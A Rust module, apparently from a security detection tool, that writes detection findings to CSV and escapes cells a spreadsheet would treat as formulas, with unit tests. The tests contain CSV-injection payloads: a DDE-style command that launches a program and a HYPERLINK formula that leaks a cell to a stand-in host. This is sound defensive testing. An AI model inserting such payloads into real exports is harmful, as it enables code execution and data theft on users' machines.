//! The findings CSV, one implementation for the CLI and the page.
//!
//! It reads findings as the report JSON serializes them, so the page can pass exactly the
//! findings it shows. Every cell comes from a machine an attacker may control and is opened
//! in a spreadsheet, so a cell that a spreadsheet would take for a formula (it begins with
//! `=`, `+`, `-`, `@`, tab or CR) is prefixed with `'` and quoted, as OWASP recommends;
//! a cell that is entirely a number (`-1.5`) stays a number.

use serde_json::Value;

/// Columns before the row's fields: what fired, in which reading, and its risk.
const LEAD_COLUMNS: [&str; 6] = [
    "detection_id",
    "detection",
    "mode",
    "severity",
    "risk_score",
    "risk_message",
];

/// One header line and one line per finding (CRLF, as RFC 4180): the detection, the
/// reading (`as_published` or `hardened`), the risk, then every output field any of the
/// findings has, in first-seen order. A field a finding lacks, or a null, is an empty cell.
pub fn findings_csv(findings: &[Value]) -> String {
    let fields = row_fields(findings);
    let mut out = String::new();
    let header = LEAD_COLUMNS.iter().copied().chain(fields.iter().map(String::as_str));
    push_line(&mut out, header.map(str::to_string));
    for finding in findings {
        let lead = [
            &finding["detection_id"],
            &finding["detection"],
            &finding["mode"],
            &finding["risk"]["severity"],
            &finding["risk"]["score"],
            &finding["risk"]["message"],
        ];
        let row = &finding["row"];
        let cells = lead
            .into_iter()
            .chain(fields.iter().map(|field| &row[field.as_str()]))
            .map(cell_text);
        push_line(&mut out, cells);
    }
    out
}

/// Every key of any finding's row, in first-seen order.
fn row_fields(findings: &[Value]) -> Vec<String> {
    let mut fields: Vec<String> = Vec::new();
    for row in findings.iter().filter_map(|f| f["row"].as_object()) {
        for key in row.keys() {
            if !fields.contains(key) {
                fields.push(key.clone());
            }
        }
    }
    fields
}

fn cell_text(value: &Value) -> String {
    match value {
        Value::Null => String::new(),
        Value::String(text) => text.clone(),
        other => other.to_string(),
    }
}

fn push_line(out: &mut String, cells: impl Iterator<Item = String>) {
    for (index, cell) in cells.enumerate() {
        if index > 0 {
            out.push(',');
        }
        push_cell(out, &cell);
    }
    out.push_str("\r\n");
}

/// Appends one cell, neutralized if a spreadsheet would evaluate it, quoted if CSV needs it.
fn push_cell(out: &mut String, text: &str) {
    let neutralize = starts_like_formula(text) && !is_number(text);
    if !neutralize && !text.contains([',', '"', '\r', '\n']) {
        out.push_str(text);
        return;
    }
    out.push('"');
    if neutralize {
        out.push('\'');
    }
    out.push_str(&text.replace('"', "\"\""));
    out.push('"');
}

fn starts_like_formula(text: &str) -> bool {
    text.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// A decimal number and nothing else: optional sign, digits with an optional fraction,
/// optional exponent (`-5`, `+3`, `-1.5`, `.5`, `2e-3`). Not `inf` or `NaN`.
fn is_number(text: &str) -> bool {
    let unsigned = text.strip_prefix(['+', '-']).unwrap_or(text);
    let (mantissa, exponent) = match unsigned.split_once(['e', 'E']) {
        Some((mantissa, exponent)) => (mantissa, Some(exponent)),
        None => (unsigned, None),
    };
    let (whole, fraction) = mantissa.split_once('.').unwrap_or((mantissa, ""));
    let digits = |part: &str| part.bytes().all(|b| b.is_ascii_digit());
    let mantissa_ok = digits(whole) && digits(fraction) && !(whole.is_empty() && fraction.is_empty());
    let exponent_ok = exponent.is_none_or(|exp| {
        let exp = exp.strip_prefix(['+', '-']).unwrap_or(exp);
        !exp.is_empty() && digits(exp)
    });
    mantissa_ok && exponent_ok
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn finding(row: Value) -> Value {
        json!({
            "detection_id": "d-1",
            "detection": "Windows MSIExec Spawn Discovery Command",
            "mode": "as_published",
            "risk": { "severity": "low", "score": 35, "message": "msiexec.exe spawned cmd.exe" },
            "row": row,
        })
    }

    fn cell(text: &str) -> String {
        let mut out = String::new();
        push_cell(&mut out, text);
        out
    }

    #[test]
    fn header_lists_lead_columns_then_the_union_of_row_fields_in_first_seen_order() {
        let csv = findings_csv(&[
            finding(json!({ "dest": "WS-01", "count": 2 })),
            finding(json!({ "user": "alice", "dest": "WS-02" })),
        ]);
        let lines: Vec<&str> = csv.split("\r\n").collect();
        assert_eq!(
            lines,
            [
                "detection_id,detection,mode,severity,risk_score,risk_message,dest,count,user",
                "d-1,Windows MSIExec Spawn Discovery Command,as_published,low,35,msiexec.exe spawned cmd.exe,WS-01,2,",
                "d-1,Windows MSIExec Spawn Discovery Command,as_published,low,35,msiexec.exe spawned cmd.exe,WS-02,,alice",
                "",
            ]
        );
    }

    #[test]
    fn no_findings_is_the_header_alone() {
        assert_eq!(
            findings_csv(&[]),
            "detection_id,detection,mode,severity,risk_score,risk_message\r\n"
        );
    }

    #[test]
    fn formula_cells_are_prefixed_with_a_quote_and_quoted() {
        assert_eq!(cell("=1+1"), "\"'=1+1\"");
        assert_eq!(cell("+cmd"), "\"'+cmd\"");
        assert_eq!(cell("-2+3+cmd|' /C calc'!A0"), "\"'-2+3+cmd|' /C calc'!A0\"");
        assert_eq!(cell("@SUM(1,2)"), "\"'@SUM(1,2)\"");
        assert_eq!(cell("\t=1"), "\"'\t=1\"");
        assert_eq!(cell("\r=1"), "\"'\r=1\"");
        assert_eq!(cell("-"), "\"'-\"");
        assert_eq!(
            cell(r#"=HYPERLINK("http://x?"&A1,"open")"#),
            r#""'=HYPERLINK(""http://x?""&A1,""open"")""#
        );
    }

    #[test]
    fn numbers_stay_numbers() {
        for number in ["-5", "+3", "-1.5", "0", "42", ".5", "-.5", "2e-3", "-1E+10", "7."] {
            assert_eq!(cell(number), number);
        }
        for not_number in ["-", "+", "-.", "-e5", "-1e", "-1.2.3", "-inf", "-NaN", "-1 ", "-0x10"] {
            assert_eq!(cell(not_number), format!("\"'{not_number}\""));
        }
    }

    #[test]
    fn commas_quotes_and_line_breaks_are_quoted() {
        assert_eq!(cell("a,b"), "\"a,b\"");
        assert_eq!(cell("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(cell("two\nlines"), "\"two\nlines\"");
        assert_eq!(cell("cr\rinside"), "\"cr\rinside\"");
        assert_eq!(cell("cmd.exe /c dir"), "cmd.exe /c dir");
        assert_eq!(cell("inner = and - signs"), "inner = and - signs");
        assert_eq!(cell(""), "");
    }

    #[test]
    fn values_become_cells_by_type_and_missing_parts_are_empty() {
        let csv = findings_csv(&[
            finding(json!({ "n": -1, "x": null, "list": ["=a", "b"], "flag": true })),
            json!({ "row": { "n": "=2" } }),
        ]);
        let lines: Vec<&str> = csv.split("\r\n").collect();
        assert!(
            lines[1].ends_with(",-1,,\"[\"\"=a\"\",\"\"b\"\"]\",true"),
            "{}",
            lines[1]
        );
        assert_eq!(lines[2], ",,,,,,\"'=2\",,,");
    }
}
